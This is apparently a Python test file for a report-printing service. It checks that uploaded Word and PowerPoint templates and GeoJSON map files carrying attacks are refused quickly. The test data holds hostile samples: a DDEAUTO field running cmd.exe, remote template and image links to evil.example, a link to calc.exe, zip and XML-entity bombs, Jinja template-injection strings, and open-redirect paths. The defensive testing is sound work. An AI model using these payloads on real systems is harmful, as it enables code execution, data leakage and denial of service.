"""Attack: bring a template or a map that fills the server, runs something, or fetches something elsewhere.

Tried on the pages 简报 and 建县: a template unpacked to any size, its placeholders were a programming
language (`{{ 'a' * 10**9 }}`), and what it fetched from elsewhere went on into the office's papers.
"""

import io
import json
import time
import zipfile

import pytest
from docx import Document
from pptx import Presentation

from metrics.framework import GroundError, Term, shapes_file
from metrics.reports.print import SlideTemplateError, TemplateError, filled, to_pptx
from metrics.reports.print.brought import MOST_UNPACKED
from metrics.words import Slide, SlideError, checked_slides, shown_address
from tests.kit.known_reports import brief as report

RELATION = (
    '<Relationship Id="rId99" Target="{target}" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/>'
)
BODY, RELATIONS = "word/document.xml", "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"


def saved(document):
    memory = io.BytesIO()
    document.save(memory)
    return memory.getvalue()


def word(text="{{标题}}"):
    document = Document()
    document.add_paragraph(text)
    return saved(document)


def slides():
    return saved(Presentation())


def changed(content, added=(), **parts):
    """The same package with other texts in parts (name → old, new) and more parts."""
    memory = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(memory, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            told = old.read(name)
            for before, after in parts.get(name, ()):
                assert before.encode() in told, name
                told = told.replace(before.encode(), after.encode())
            new.writestr(name, told)
        for name, told in added:
            new.writestr(name, told)
    return memory.getvalue()


def linked(kind, target, name=RELATIONS, made=word):
    relation = RELATION.format(kind=kind, target=target)
    return changed(made(), **{name: [("</Relationships>", f"{relation}</Relationships>")]})


def field(instruction):
    run = f'<w:fldSimple w:instr="{instruction}"/></w:p><w:sectPr'
    return changed(word(), **{BODY: [("</w:p><w:sectPr", run)]})


HARMFUL = {
    "unpacks without end": lambda: changed(word(), [("word/media/image1.xml", b"0" * (MOST_UNPACKED + 1))]),
    "a thousand parts": lambda: changed(word(), [(f"word/media/{n}.png", b"") for n in range(2_001)]),
    "macros": lambda: changed(word(), [("word/vbaProject.bin", b"x")]),
    "named as without macros": lambda: changed(
        word(), **{TYPES: [("wordprocessingml.document.main", "macroEnabled.main")]}
    ),
    "a control": lambda: changed(word(), [("word/activeX/activeX1.xml", b"<a/>")]),
    "an embedded program": lambda: changed(word(), [("word/embeddings/oleObject1.bin", b"x")]),
    "a template elsewhere": lambda: linked("attachedTemplate", "http://evil.example/a.dotm"),
    "a picture elsewhere": lambda: linked("image", "http://evil.example/pixel.png"),
    "a share": lambda: linked("image", "file://evil.example/share/a.png"),
    "a link that runs": lambda: linked("hyperlink", "file:///c:/windows/system32/calc.exe"),
    "dde": lambda: field("DDEAUTO c:\\windows\\cmd.exe &quot;/k calc&quot;"),
    "a picture by a field": lambda: field("INCLUDEPICTURE http://evil.example/p.png"),
    "entities": lambda: changed(
        word(),
        [("word/more.xml", '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>')],
    ),
    "no XML": lambda: changed(word(), [("word/more.xml", "<a")]),
    "a product": lambda: word("{{ 'a' * 1000000000 }}{{标题}}"),
    "loops in loops": lambda: word(
        "{% for a in range(99999) %}{% for b in range(99999) %}{{标题}}{% endfor %}{% endfor %}"
    ),
    "an attribute": lambda: word("{{ 标题.__class__.__mro__ }}"),
    "a filter": lambda: word("{{ 标题 | center(999999999) }}"),
    "a call": lambda: word("{{ lipsum(99999) }}"),
}


@pytest.mark.breadth(8)
@pytest.mark.parametrize("attack", HARMFUL)
def test_a_word_template_that_does_harm_is_refused_at_once(attack):
    content = HARMFUL[attack]()
    began = time.process_time()
    with pytest.raises(TemplateError) as told:
        filled(content, report())
    assert time.process_time() - began < 5
    assert any("\u4e00" <= sign <= "\u9fff" for sign in str(told.value))


@pytest.mark.parametrize(
    "attack",
    [
        lambda: changed(slides(), [("ppt/media/image1.xml", b"0" * (MOST_UNPACKED + 1))]),
        lambda: changed(slides(), [("ppt/vbaProject.bin", b"x")]),
        lambda: linked(
            "image", "http://evil.example/p.png", "ppt/slideMasters/_rels/slideMaster1.xml.rels", slides
        ),
        lambda: linked("oleObject", "file://evil.example/a", "ppt/_rels/presentation.xml.rels", slides),
        lambda: changed(slides(), [("ppt/more.xml", "<a")]),
    ],
    ids=["unpacks without end", "macros", "a picture elsewhere", "an object elsewhere", "no XML"],
)
def test_a_template_of_slides_that_does_harm_is_refused(attack):
    with pytest.raises(SlideTemplateError):
        to_pptx(report(), attack())


def test_what_offices_really_have_is_filled():
    plain = linked("hyperlink", "https://www.gov.cn/", made=lambda: word("{{标题}}，{{日期}}"))
    printer = changed(plain, [("word/printerSettings1.bin", b"x")])
    assert report().title in Document(io.BytesIO(filled(printer, report()))).paragraphs[-1].text
    assert to_pptx(report(), slides())


TOWNS = [Term("X01", "甲镇（示意）", "甲镇")]


def area(coordinates, kind="Polygon", properties=None):
    feature = {
        "properties": {"n": "甲镇"} if properties is None else properties,
        "geometry": {"type": kind, "coordinates": coordinates},
    }
    return json.dumps({"type": "FeatureCollection", "features": [feature]}).encode()


SQUARE = [[118, 33], [118.2, 33], [118.2, 33.2], [118, 33.2], [118, 33]]
#: Every split takes one corner off: thinning looks at all places again and again.
TEETH = [[118 + step / 100_000, 33 + (step % 2) * 0.5] for step in range(20_000)]
MAPS = {
    "properties that are none": area([SQUARE], properties=["甲镇"]),
    "a nested name": area([SQUARE], properties={"n": ["甲镇"]}),
    "no list": area(3),
    "rings that are none": area([3]),
    "a ring of a map": area([{"a": 1}]),
    "nothing": area([]),
    "a number beyond numbers": area([[[10**400, 1], [1, 2], [2, 3]]]),
    "no number": area([[[float("nan"), 1], [float("inf"), 2], [2, 3]]]),
    "deep": b'{"features": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "a deep property": b'{"features": [{"properties": {"n": '
    + b"[" * 900
    + b"]" * 900
    + b'}, "geometry": {"type":'
    b' "Polygon", "coordinates": [[[1, 1], [1, 2], [2, 3]]]}}]}',
    "all on one place": area([[[118, 33]] * 9]),
    "more corners than any county": area([[[118, 33], [118.1, 33.1]] * 100_001]),
    "longer than any county": b" " * 20_000_001,
}


@pytest.mark.breadth(5)
@pytest.mark.parametrize("attack", MAPS)
def test_a_map_that_is_none_is_refused_in_a_sentence(attack):
    with pytest.raises(GroundError):
        shapes_file(MAPS[attack], TOWNS)


@pytest.mark.long
def test_a_map_made_to_be_slow_is_not():
    began = time.process_time()
    content, missing = shapes_file(area([TEETH]), TOWNS)
    assert time.process_time() - began < 30
    assert (missing, len(content) < 1_000_000) == ((), True)


@pytest.mark.parametrize(
    "address",
    [
        "/\\evil.example",
        "\\\\evil.example",
        "/towns/../../evil",
        "/photo?token=x/..",
        "/_stcore/x",
        "data:,a",
        "/%5Cevil",
    ],
)
def test_a_meeting_leads_to_pages_of_the_system_and_nowhere_else(address):
    """Tried: browsers take `/\\host` for another host's address; the next page of a meeting was there."""
    try:
        shown = shown_address(checked_slides([("坏", address)])[0])
    except SlideError:
        shown = shown_address(Slide("坏", address))
    assert shown.partition("?")[0].strip("/").replace("_", "").isalpha() or shown.startswith("/?")
    assert "\\" not in shown.partition("?")[0]
